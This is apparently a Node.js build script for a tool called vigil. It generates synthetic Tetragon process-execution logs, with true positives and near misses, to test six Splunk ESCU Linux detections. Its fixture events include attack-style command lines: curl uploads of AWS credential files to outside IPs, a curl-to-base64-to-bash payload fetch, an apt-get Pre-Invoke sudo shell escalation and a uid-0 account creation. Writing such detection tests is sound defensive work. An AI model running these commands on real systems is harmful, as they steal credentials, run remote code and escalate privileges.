#!/usr/bin/env node
// Writes vigil's own Tetragon datasets for the six ESCU Linux detections that list Cisco Isovalent as a
// data source (isovalent-content.md §1.11): `| tstats ... from datamodel=Endpoint.Processes` searches run
// over Tetragon process_exec events. Each file holds true positives and near misses (comments say which,
// and why), under the attack_data folder of the detection's upstream test with `cisco_isovalent` in the
// name. Deterministic; rerun after edits:
//   node scripts/build-linux-datasets.mjs
// test/cli/escu-checkout.test.ts runs the detections over them with `vigil test`; the rows it expects
// are written there by hand (pids below identify the events), never computed by vigil.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { containerIdFor, processExec, rfc3339 } from './tetragon-factory.mjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', 'attack_data');
const T0 = Date.UTC(2026, 10, 21, 8, 0, 0) / 1000; // 2026-11-21T08:00:00Z

// A VM running Tetragon as a systemd service with --username-metadata=unix: host processes carry
// process.user.name; no cluster. And a Kubernetes node whose pod processes carry no user name.
const VM = { node: 'bastion-01', cluster: null, pod: null };
const K8S_NODE = 'ip-10-0-3-41.eu-west-1.compute.internal';
function inPod(name, namespace, image) {
  return {
    node: K8S_NODE,
    cluster: 'prod-eu-1',
    pod: {
      name,
      namespace,
      image,
      containerId: containerIdFor(name),
      containerName: name.split('-')[0],
      containerStart: rfc3339(T0 - 3 * 86400 + 12.25),
      workload: name.replace(/-[a-z0-9]{9,10}-[a-z0-9]{5}$/, ''),
      workloadKind: 'Deployment',
    },
  };
}
const LEGACY = inPod('legacy-billing-5b6c7d8e9f-h2j4k', 'billing', 'docker.io/library/debian:12');
const WORKER = inPod('report-worker-7c8d9e0f1a-m5n6p', 'reports', 'docker.io/acme/report-worker:3.2.0');

const BASH_ADMIN = { binary: '/bin/bash', pid: 4100, user: 'ops', cwd: '/home/ops' };
const BASH_ROOT = { binary: '/bin/bash', pid: 4200, user: 'root', cwd: '/root' };
/** The entrypoint shell of a pod (host pids: one per pod). */
const POD_SHELL = (where) => ({ binary: '/bin/sh', args: '-c /entrypoint.sh', pid: where === LEGACY ? 31000 : 32000 });

/**
 * A process_exec at T0 + dt on `where` (VM or a pod). `proc`: { pid, uid?, user?, cwd? }; `parent`:
 * { binary, args?, pid, uid?, user?, cwd? }. Processes in pods never carry a user name (Tetragon resolves
 * names only in the host namespace).
 */
function exec(where, dt, binary, args, proc, parent) {
  const time = T0 + dt;
  const hostUser = (u) => (where.pod ? undefined : u);
  return processExec({
    time,
    node: where.node,
    cluster: where.cluster,
    process: { binary, args, pid: proc.pid, uid: proc.uid ?? 0, user: hostUser(proc.user ?? (proc.uid ? undefined : 'root')), cwd: proc.cwd ?? '/', start: time - 0.000173, pod: where.pod ?? undefined },
    parent: { binary: parent.binary, args: parent.args, pid: parent.pid, uid: parent.uid ?? 0, user: hostUser(parent.user), cwd: parent.cwd ?? '/', start: time - 41.5, pod: where.pod ?? undefined },
  });
}

function write(rel, events) {
  const file = join(root, rel);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
  console.log(`${rel}: ${events.length} events`);
}

// ---------------------------------------------------------------- Linux Add User Account
// process_name IN ("useradd", "adduser") OR process IN ("*useradd *", "*adduser *")
write('datasets/attack_techniques/T1548.003/linux_adduser/cisco_isovalent.log', [
  exec(VM, 10, '/usr/sbin/useradd', '-m -s /bin/bash -G sudo backup-svc', { pid: 7101 }, { binary: '/usr/bin/sudo', args: 'useradd -m -s /bin/bash -G sudo backup-svc', pid: 7100, user: 'root', cwd: '/home/ops' }), // TP: process_name
  exec(LEGACY, 20, '/usr/sbin/adduser', '--disabled-password app', { pid: 31101 }, POD_SHELL(LEGACY)), // TP: in a pod, user unknown
  exec(VM, 30, '/bin/sh', '-c "useradd -o -u 0 -g 0 toor"', { pid: 7103, user: 'ops', uid: 1001 }, BASH_ADMIN), // TP: process "*useradd *"
  exec(VM, 40, '/usr/bin/grep', 'adduser /var/log/auth.log', { pid: 7104, user: 'ops', uid: 1001 }, BASH_ADMIN), // TP by the semantics: "*adduser *"
  exec(VM, 50, '/usr/sbin/userdel', '-r olduser', { pid: 7151 }, BASH_ROOT), // near miss: another tool
  exec(VM, 55, '/usr/sbin/usermod', '-aG docker ops', { pid: 7152 }, BASH_ROOT), // near miss
  exec(VM, 60, '/bin/cat', '/etc/default/useradd', { pid: 7153 }, BASH_ROOT), // near miss: "useradd" not followed by a space
  exec(VM, 65, '/usr/sbin/useradd.bak', undefined, { pid: 7154 }, BASH_ROOT), // near miss: process_name is useradd.bak
]);

// ---------------------------------------------------------------- Linux Adding Crontab Using List Parameter
// process_name = "crontab" process = "* -l*"; grouped without process_guid (same pid twice: one row, count 2)
write('datasets/attack_techniques/T1053.003/crontab_list_parameter/cisco_isovalent.log', [
  exec(VM, 100, '/usr/bin/crontab', '-l', { pid: 7201, user: 'ops', uid: 1001, cwd: '/home/ops' }, BASH_ADMIN), // TP
  exec(VM, 160, '/usr/bin/crontab', '-l', { pid: 7201, user: 'ops', uid: 1001, cwd: '/home/ops' }, BASH_ADMIN), // TP: pid reused, same row: count 2
  exec(VM, 130, '/usr/bin/crontab', '-u www-data -l', { pid: 7202 }, BASH_ROOT), // TP
  exec(WORKER, 140, '/usr/bin/crontab', '-l', { pid: 32201 }, POD_SHELL(WORKER)), // TP in a pod
  exec(VM, 150, '/usr/bin/crontab', '-e', { pid: 7251, user: 'ops', uid: 1001 }, BASH_ADMIN), // near miss: -e
  exec(VM, 155, '/bin/ls', '-l /etc/cron.d', { pid: 7252 }, BASH_ROOT), // near miss: not crontab
  exec(VM, 170, '/usr/bin/crontab', '/tmp/jobs.cron', { pid: 7253 }, BASH_ROOT), // near miss: installs a file
]);

// ---------------------------------------------------------------- Linux apt-get Privilege Escalation
// process = "*apt-get*" AND process = "*APT::Update::Pre-Invoke::*" AND process = "*sudo*" (values match case-insensitively)
write('datasets/attack_techniques/T1548/apt_get/cisco_isovalent.log', [
  exec(VM, 200, '/usr/bin/sudo', 'apt-get update -o APT::Update::Pre-Invoke::=/bin/sh', { pid: 7301, user: 'root', cwd: '/home/ops' }, BASH_ADMIN), // TP
  exec(VM, 201, '/usr/bin/apt-get', 'update -o APT::Update::Pre-Invoke::=/bin/sh', { pid: 7302 }, { binary: '/usr/bin/sudo', args: 'apt-get update -o APT::Update::Pre-Invoke::=/bin/sh', pid: 7301, user: 'root' }), // near miss: no "sudo" in its own command line
  exec(VM, 210, '/usr/bin/sudo', 'apt-get -o "apt::update::pre-invoke::=bash -i" update', { pid: 7303, user: 'root', cwd: '/home/ops' }, BASH_ADMIN), // TP: lower case matches
  exec(VM, 220, '/usr/bin/sudo', 'apt-get install -y curl', { pid: 7351, user: 'root' }, BASH_ADMIN), // near miss
  exec(VM, 230, '/usr/bin/apt-get', 'update', { pid: 7352 }, BASH_ROOT), // near miss
]);

// ---------------------------------------------------------------- Linux At Application Execution
// process_name IN ("at", "atd") OR parent_process_name IN ("at", "atd")
write('datasets/attack_techniques/T1053.002/at_execution/cisco_isovalent.log', [
  exec(VM, 300, '/usr/bin/at', 'now + 1 minute -f /tmp/run.sh', { pid: 7401, user: 'ops', uid: 1001, cwd: '/home/ops' }, BASH_ADMIN), // TP
  exec(VM, 305, '/usr/sbin/atd', '-f', { pid: 7402 }, { binary: '/usr/lib/systemd/systemd', args: '--system --deserialize 31', pid: 1, user: 'root' }), // TP: atd itself
  exec(VM, 360, '/bin/sh', undefined, { pid: 7403, user: 'ops', uid: 1001, cwd: '/home/ops' }, { binary: '/usr/sbin/atd', args: '-f', pid: 7402, user: 'root' }), // TP: child of atd
  exec(VM, 310, '/usr/bin/atq', undefined, { pid: 7451, user: 'ops', uid: 1001 }, BASH_ADMIN), // near miss
  exec(VM, 315, '/usr/bin/attr', '-l /tmp/run.sh', { pid: 7452 }, BASH_ROOT), // near miss
  exec(LEGACY, 320, '/usr/bin/batch', undefined, { pid: 31401 }, POD_SHELL(LEGACY)), // near miss: batch, not at
]);

// ---------------------------------------------------------------- Linux Curl Upload File
// process_name=curl process IN (upload flags) AND process IN ("*.aws/credentials*". "*.aws/config*")
// (only `.aws/config` here: how Splunk reads the period between the two list items is not established)
write('datasets/attack_techniques/T1105/atomic_red_team/curl-linux-cisco_isovalent.log', [
  exec(VM, 400, '/usr/bin/curl', '-s -F file=@/home/ops/.aws/config https://203.0.113.50/upload', { pid: 7501, user: 'ops', uid: 1001, cwd: '/home/ops' }, BASH_ADMIN), // TP: -F
  exec(VM, 410, '/usr/bin/curl', '--upload-file /root/.aws/config https://203.0.113.50/put', { pid: 7502 }, BASH_ROOT), // TP: --upload-file
  exec(WORKER, 420, '/usr/bin/curl', '-X POST --data-raw @/root/.aws/config http://198.51.100.7:8080/', { pid: 32501 }, POD_SHELL(WORKER)), // TP in a pod: --data-raw
  exec(VM, 430, '/usr/bin/curl', '-F file=@/tmp/report.txt https://203.0.113.50/upload', { pid: 7551 }, BASH_ROOT), // near miss: not AWS files
  exec(VM, 440, '/usr/bin/wget', '--post-file=/root/.aws/config https://203.0.113.50/', { pid: 7552 }, BASH_ROOT), // near miss: wget
  exec(VM, 450, '/usr/bin/curl', '-o /root/.aws/config https://config.internal/aws', { pid: 7553 }, BASH_ROOT), // near miss: a download
  exec(VM, 460, '/bin/cat', '/root/.aws/config', { pid: 7554 }, BASH_ROOT), // near miss
]);

// ---------------------------------------------------------------- Linux Decode Base64 to Shell
// process="*|*" `linux_shells`, then rex "base64\s+(?<decode_flag>-{1,2}d\w*)" and where isnotnull(decode_flag)
write('datasets/attack_techniques/T1027/atomic_red_team/linux-cisco_isovalent.log', [
  exec(VM, 500, '/bin/sh', '-c "echo ZWNobyBwd25lZA== | base64 -d | sh"', { pid: 7601, user: 'ops', uid: 1001, cwd: '/home/ops' }, BASH_ADMIN), // TP: -d
  exec(WORKER, 510, '/bin/bash', '-c "curl -s http://198.51.100.7/p | base64 --decode | bash"', { pid: 32601 }, POD_SHELL(WORKER)), // TP in a pod: --decode
  exec(VM, 520, '/bin/sh', '-c "cat /etc/hosts | base64"', { pid: 7651 }, BASH_ROOT), // near miss: encoding
  exec(VM, 530, '/usr/bin/base64', '-d /tmp/payload.b64', { pid: 7652 }, BASH_ROOT), // near miss: no pipe, not a shell
  exec(VM, 540, '/bin/sh', '-c "base64 -d /tmp/a.b64 > /tmp/a"', { pid: 7653 }, BASH_ROOT), // near miss: no pipe
  exec(VM, 550, '/usr/bin/python3', '-c "import os; os.system(\'echo aGk= | base64 -d | sh\')"', { pid: 7654 }, BASH_ROOT), // near miss: python3 is not a shell
]);
